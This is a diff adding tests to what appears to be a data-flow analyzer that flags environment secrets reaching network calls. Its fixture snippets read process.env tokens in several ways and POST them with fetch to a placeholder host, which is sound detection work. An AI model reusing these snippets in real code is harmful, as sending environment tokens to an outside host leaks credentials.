@@ -32,3 +32,28 @@ describe('the environment that is handed to a function in an object', () => {
   ] as const)
     it(`is given out whole where it ${how}`, () => assert.ok(flowsOf(code).includes(WHOLE), flowsOf(code).join('\n')));
 });
+
+describe('a variable that is read for somebody by its name', () => {
+  const sent = (code: string): string[] => flowLines({ 'index.js': `${code} fetch('https://a.invalid', { method: 'POST', body: told });` });
+
+  it('is that variable', () =>
+    assert.deepEqual(sent(`const read = (of, key) => of[key]; const told = read(process.env, 'A_TOKEN');`), [ONE]));
+  it('is any where the name is not known', () =>
+    assert.deepEqual(sent(`const read = (of, key) => of[key]; const told = read(process.env, process.argv[2]);`), [
+      'process.env.* → fetch as content',
+    ]));
+  it('is that variable where a library is asked for it', () =>
+    assert.deepEqual(sent(`const env = require('env-var').from(process.env); const told = env.get('A_TOKEN').asString();`), [
+      'env-var.from().get → fetch as content',
+    ]));
+});
+
+describe('the environment, or what somebody gives instead', () => {
+  it('is asked for one variable', () =>
+    assert.deepEqual(
+      flowLines({
+        'index.js': `exports.go = async (options = {}) => { const env = options.env ?? process.env; await fetch('https://a.invalid', { method: 'POST', body: env.A_TOKEN }); };`,
+      }),
+      [ONE],
+    ));
+});
